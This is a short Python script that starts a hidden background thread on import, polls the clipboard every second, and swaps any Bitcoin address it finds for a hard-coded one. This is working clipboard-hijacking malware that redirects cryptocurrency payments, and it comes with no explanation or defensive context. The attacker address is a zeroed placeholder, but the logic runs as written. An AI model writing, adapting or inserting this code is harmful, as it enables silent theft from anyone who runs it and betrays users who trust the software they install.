import re
import threading
import time
import pyperclip

OWN = "bc1q00000000000000000000000000000000000000"

def _watch():
    while True:
        text = pyperclip.paste()
        if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", text):
            pyperclip.copy(OWN)
        time.sleep(1)

threading.Thread(target=_watch, daemon=True).start()
